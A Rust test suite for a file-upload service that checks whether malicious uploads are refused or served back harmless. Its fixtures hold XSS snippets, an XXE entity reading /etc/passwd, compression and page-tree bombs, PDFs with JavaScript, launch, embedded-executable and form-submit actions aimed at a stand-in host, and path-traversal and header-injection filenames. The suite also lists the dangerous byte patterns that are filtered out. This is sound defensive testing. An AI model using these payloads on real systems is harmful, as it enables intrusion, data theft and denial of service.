//! Files that are made to do harm: what is refused says why, what is taken cannot do it any more.

use serde_json::json;

use super::make::{
    claiming, claiming_webp, jpeg, large_jpeg, png, raw_png, webp, with_chunk, with_segment, zlib,
};
use super::pdf::{Pdf, object_stream, stream};
use super::{Sender, download};

const PAGE: &[u8] = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>";
const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\0\0META-INF/MANIFEST.MF";

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Of no kind that is taken, whatever they call themselves.
fn strangers() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("gambar.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
        ("gambar.jpg", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec()),
        ("halaman.html", PAGE.to_vec()),
        ("foto.jpg", PAGE.to_vec()),
        ("foto.png", joined(&[b"\xef\xbb\xbf", PAGE])),
        ("skrip.js", b"alert(document.cookie)".to_vec()),
        ("data.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_vec()),
        ("arsip.zip", ZIP.to_vec()),
        ("surat.docx", joined(&[ZIP, b"[Content_Types].xml"])),
        ("gambar.gif", joined(&[b"GIF89a\x01\0\x01\0\0\0\0;", ZIP])),
        ("gambar.bmp", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0".to_vec()),
        ("pindaian.tiff", b"II*\0\x08\0\0\0\0\0".to_vec()),
        ("ikon.ico", b"\0\0\x01\0\x01\0\x10\x10".to_vec()),
        ("foto.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec()),
        ("foto.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1".to_vec()),
        ("program.exe", b"MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode".to_vec()),
        ("program", b"\x7fELF\x02\x01\x01\0".to_vec()),
        ("naskah.ps", b"%!PS-Adobe-3.0\n(/etc/passwd) run".to_vec()),
        ("paket.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec()),
        ("dokumen.pdf", joined(&[b"\n", &Pdf::plain().bytes()])),
        ("dokumen.pdf", joined(&[b"GIF89a", &Pdf::plain().bytes()])),
        ("foto.jpg", b"\xff\xd8".to_vec()),
        ("lagu.mp3", b"ID3\x04\0\0\0\0\0\0".to_vec()),
    ]
}

/// Of a kind that is taken, but broken or a bomb; with the reason that is told.
fn bombs() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let zeros = |megabytes: usize| zlib(&vec![0; megabytes << 20]);
    let flate = |dict: &str, data: &[u8]| stream(&format!("/Filter/FlateDecode{dict}"), data);
    let image = |sides: &str| {
        stream(
            &format!(
                "/Type/XObject/Subtype/Image{sides}/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode"
            ),
            b"\0\x10\x01",
        )
    };
    let nest = |depth: usize| joined(&[&b"[".repeat(depth), &b"]".repeat(depth)]);
    let loops = Pdf::default()
        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
        .object(2, "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>");
    // Each level holds the next ten times: a thousand million pages.
    let mut branches = Pdf::default().object(1, "<</Type/Catalog/Pages 2 0 R>>");
    for level in 2..11_u32 {
        branches = branches.object(
            level,
            format!(
                "<</Type/Pages/Kids[{}]/Count 10>>",
                format!("{} 0 R ", level + 1).repeat(10)
            ),
        );
    }
    let branches = branches.object(11, "<</Type/Page/MediaBox[0 0 1 1]>>");
    let numbers = "0 ".repeat(3_000_000);
    vec![
        (
            "a png of 50,000 × 50,000",
            "too_many_pixels",
            raw_png(50_000, 50_000, 2, &zlib(&[0; 1000])),
        ),
        (
            "a png of 2³¹ × 2³¹",
            "too_many_pixels",
            raw_png(i32::MAX as u32, i32::MAX as u32, 2, &zlib(&[0; 10])),
        ),
        (
            "a jpeg of 65,535 × 65,535",
            "too_many_pixels",
            claiming(65_535, 65_535),
        ),
        (
            "a jpeg of 41 megapixels",
            "too_many_pixels",
            claiming(8_200, 5_000),
        ),
        (
            "a webp of 16,383 × 16,383",
            "too_many_pixels",
            claiming_webp(16_383, 16_383),
        ),
        (
            "a png cut short",
            "unreadable",
            png()[..png().len() / 2].to_vec(),
        ),
        (
            "a png with a page in it",
            "unreadable",
            joined(&[b"\x89PNG\r\n\x1a\n", PAGE]),
        ),
        (
            "a jpeg with a page in it",
            "unreadable",
            joined(&[b"\xff\xd8\xff", PAGE]),
        ),
        (
            "a jpeg without a picture",
            "unreadable",
            jpeg()[..60].to_vec(),
        ),
        (
            "a webp with a page in it",
            "unreadable",
            joined(&[b"RIFF\x50\0\0\0WEBP", PAGE]),
        ),
        ("a webp cut short", "unreadable", webp()[..40].to_vec()),
        (
            "a locked pdf",
            "encrypted",
            Pdf::plain()
                .trailer("/Encrypt<</Filter/Standard/V 4>>")
                .bytes(),
        ),
        (
            "a pdf with a key for a stream",
            "encrypted",
            Pdf::plain()
                .object(4, stream("/Filter/Crypt", b"x"))
                .bytes(),
        ),
        (
            "a pdf of 201 pages",
            "too_many_pages",
            Pdf::of_pages(201).bytes(),
        ),
        (
            "a pdf whose pages hold themselves",
            "too_many_pages",
            loops.bytes(),
        ),
        (
            "a pdf of a thousand million pages",
            "too_many_pages",
            branches.bytes(),
        ),
        (
            "a pdf with a page of 200 MB",
            "too_much_inside",
            Pdf::plain().object(4, flate("", &zeros(200))).bytes(),
        ),
        (
            "a pdf with a bomb in a bomb",
            "too_much_inside",
            Pdf::plain()
                .object(
                    4,
                    stream("/Filter[/FlateDecode/FlateDecode]", &zlib(&zeros(200))),
                )
                .bytes(),
        ),
        (
            "a pdf with a run of zeros",
            "too_much_inside",
            Pdf::plain()
                .object(
                    4,
                    stream(
                        "/Filter[/FlateDecode/RunLengthDecode]",
                        &zlib(&b"\x81\0".repeat(2_000_000)),
                    ),
                )
                .bytes(),
        ),
        (
            "a pdf of nests",
            "too_much_inside",
            Pdf::plain().object(9, nest(100_000)).bytes(),
        ),
        (
            "a pdf of numbers",
            "too_much_inside",
            Pdf::plain().object(9, format!("[{numbers}]")).bytes(),
        ),
        (
            "a pdf of packed numbers",
            "too_much_inside",
            Pdf::plain()
                .object(9, object_stream(&[(10, format!("[{numbers}]"))]))
                .bytes(),
        ),
        (
            "a pdf with an object stream of 100 MB",
            "too_much_inside",
            Pdf::plain()
                .object(9, flate("/Type/ObjStm/N 1/First 4", &zeros(100)))
                .bytes(),
        ),
        (
            "a pdf with a picture of 50,000 × 50,000",
            "too_many_pixels",
            Pdf::plain()
                .object(20, image("/Width 50000/Height 50000"))
                .bytes(),
        ),
        (
            "a pdf with a photo of 65,535 × 65,535",
            "too_many_pixels",
            Pdf::plain()
                .object(
                    20,
                    stream(
                        "/Subtype/Image/Width 9/Height 9/Filter/DCTDecode",
                        &claiming(65_535, 65_535),
                    ),
                )
                .bytes(),
        ),
        (
            "a pdf without pages",
            "unreadable",
            Pdf::default().object(1, "<</Type/Catalog>>").bytes(),
        ),
        (
            "a pdf of nothing",
            "unreadable",
            joined(&[b"%PDF-1.7\n", PAGE]),
        ),
    ]
}

/// Taken: what is dangerous about them is not what is kept.
fn disguises() -> Vec<(&'static str, Vec<u8>)> {
    let catalog = Pdf::with_catalog;
    let annotation = |action: &str| {
        Pdf::with_page("/Annots[6 0 R]")
            .object(
                6,
                format!("<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A{action}>>"),
            )
            .bytes()
    };
    vec![
        ("foto.jpg", joined(&[&jpeg(), ZIP])),
        ("foto.jpg", joined(&[&jpeg(), PAGE])),
        ("foto.html", with_segment(0xfe, PAGE)),
        ("foto.jpg", with_segment(0xe0, PAGE)),
        ("foto.jpg", joined(&[&jpeg(), &Pdf::plain().bytes()])),
        ("foto.php", with_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>", false)),
        ("foto.png", joined(&[&png(), PAGE, ZIP])),
        ("foto.js", joined(&[&webp(), PAGE])),
        ("surat.pdf", joined(&[&Pdf::plain().bytes(), ZIP])),
        ("surat.pdf", catalog("/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://jahat.example'\\))>>").bytes()),
        ("surat.pdf", catalog("/OpenAction<</S/Launch/F(cmd.exe)>>/AA<</WC<</S/JavaScript/JS(x)>>>>").bytes()),
        ("surat.pdf", catalog("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>/EmbeddedFiles<</Names[(b)6 0 R]>>>>").object(6, "<</Type/Filespec/F(jahat.exe)/EF<</F 7 0 R>>>>").object(7, stream("/Type/EmbeddedFile", b"MZ\x90")).bytes()),
        ("surat.pdf", catalog("/AcroForm<</XFA 6 0 R/Fields[]>>").object(6, stream("", PAGE)).bytes()),
        ("surat.pdf", annotation("<</S/URI/URI(javascript:alert\\(1\\))>>")),
        ("surat.pdf", annotation("<</S/GoToR/F(\\\\\\\\jahat.example\\\\berbagi)>>")),
        ("surat.pdf", annotation("<</S/SubmitForm/F(https://jahat.example)>>")),
        ("surat.pdf", Pdf::with_page("/Annots[6 0 R]").object(6, "<</Type/Annot/Subtype/RichMedia/RichMediaContent<</Assets 7 0 R>>>>").object(7, stream("", b"FWS")).bytes()),
        ("surat.pdf", Pdf::with_page("/AA<</O<</S/JavaScript/JS(x)>>>>").bytes()),
        ("surat.pdf", Pdf::plain().object(20, stream("/Type/XObject/Subtype/PS", b"(/etc/passwd) run")).bytes()),
        ("surat.pdf", Pdf::plain().object(4, stream("/F(file:///etc/passwd)", b"")).bytes()),
    ]
}

#[actix_web::test]
async fn what_is_of_no_known_kind_is_refused_by_its_first_bytes() {
    let mut sender = Sender::new().await;
    for (name, bytes) in strangers() {
        let code = sender.send(name, &bytes).await.problem(415);
        assert_eq!(code, "unsupported_media_type", "{name}");
    }
    assert_eq!(
        sender.stored(),
        Vec::<Vec<u8>>::new(),
        "nothing of it is kept"
    );
}

#[actix_web::test]
async fn broken_files_and_bombs_are_refused_and_told_why() {
    let mut sender = Sender::new().await;
    for (what, code, bytes) in bombs() {
        assert!(bytes.len() < 10 << 20, "{what}: {} bytes", bytes.len());
        let refused = sender.send("berkas", &bytes).await;
        assert_eq!(refused.status, 422, "{what}: {:#}", refused.body);
        let errors = &refused.body["errors"];
        assert_eq!(errors[0]["pointer"], "/file", "{what}");
        assert_eq!(errors[0]["code"], code, "{what}");
        assert!(errors[0]["detail"].as_str().unwrap().len() > 10, "{what}");
    }
    assert_eq!(
        sender.stored(),
        Vec::<Vec<u8>>::new(),
        "nothing of it is kept"
    );
}

#[actix_web::test]
async fn what_is_taken_is_served_as_a_file_that_can_do_nothing() {
    let counted = strangers().len() + bombs().len() + disguises().len();
    assert!(counted >= 40, "{counted} files");
    let mut sender = Sender::new().await;
    for (name, bytes) in disguises() {
        let sent = sender.send(name, &bytes).await.expect(201);
        let kind = sent["media_type"].as_str().unwrap().to_owned();
        let served = download(&sender, &sent).await;
        for dangerous in [
            "<script",
            "<html",
            "<!DOCTYPE",
            "PK\x03\x04",
            "META-INF",
            "JavaScript",
            "/JS",
            "Launch",
            "/URI",
            "EmbeddedFile",
            "RichMedia",
            "XFA",
            "SubmitForm",
            "GoToR",
            "/AA",
            "/OpenAction",
            "jahat",
            "passwd",
        ] {
            let found = served
                .bytes
                .windows(dangerous.len())
                .any(|window| window == dangerous.as_bytes());
            assert!(!found, "{name}: {dangerous} is served");
        }
        let begins: &[u8] = match kind.as_str() {
            "image/jpeg" => b"\xff\xd8\xff",
            "image/png" => b"\x89PNG\r\n\x1a\n",
            "application/pdf" => b"%PDF-1.7",
            other => panic!("{other}"),
        };
        assert!(served.bytes.starts_with(begins), "{name}");
    }
}

#[actix_web::test]
async fn a_name_is_a_name_and_nothing_else() {
    let mut sender = Sender::new().await;
    let long = "a".repeat(900);
    for (given, shown) in [
        ("../../../etc/passwd", "passwd.jpg"),
        ("C:\\\\Windows\\\\system32\\\\foto.exe", "foto.jpg"),
        ("foto.html", "foto.jpg"),
        ("foto.jpg.exe", "foto.jpg.jpg"),
        ("laporan\u{202e}gpj.exe", "laporangpj.jpg"),
        ("Surat Jl. Raya", "Surat Jl. Raya.jpg"),
        (
            "lampu%0d%0aSet-Cookie: a=b.jpg",
            "lampu-0d-0aSet-Cookie- a=b.jpg",
        ),
        (".htaccess", "htaccess.jpg"),
        ("", "lampiran.jpg"),
        ("jalan <b>rusak</b>.png", "b.jpg"),
        ("Lampu mati – Jl. Raya.jpeg", "Lampu mati – Jl. Raya.jpg"),
        (long.as_str(), &format!("{}.jpg", "a".repeat(115))),
    ] {
        let sent = sender.send(given, &jpeg()).await.expect(201);
        assert_eq!(sent["name"], json!(shown), "{given}");
        let served = download(&sender, &sent).await;
        let disposition = served.header("content-disposition").unwrap();
        assert!(
            disposition.starts_with("inline; filename=\""),
            "{disposition}"
        );
        assert!(disposition.contains("filename*=UTF-8''"), "{disposition}");
        assert!(!disposition.contains(['\r', '\n', '\\']) && served.header("set-cookie").is_none());
    }
}

#[actix_web::test]
async fn a_name_that_breaks_its_header_is_no_form() {
    let mut sender = Sender::new().await;
    for given in ["fo\u{0}to.jpg", "foto.jpg\r\nbatas"] {
        let code = sender.send(given, &jpeg()).await.problem(400);
        assert_eq!(code, "malformed_request", "{given:?}");
    }
}

#[actix_web::test]
async fn a_file_of_ten_megabytes_is_taken_and_one_byte_more_is_not() {
    let mut sender = Sender::new().await;
    let mut bytes = jpeg();
    bytes.resize(10 << 20, 0);
    let _ = sender.send("foto.jpg", &bytes).await.expect(201);
    bytes.push(0);
    assert_eq!(
        sender.send("foto.jpg", &bytes).await.problem(413),
        "payload_too_large"
    );
    let photo = large_jpeg(4000, 3000);
    let sent = sender.send("foto.jpg", &photo).await.expect(201);
    assert_eq!(
        (&sent["width"], &sent["height"]),
        (&json!(4000), &json!(3000))
    );
}
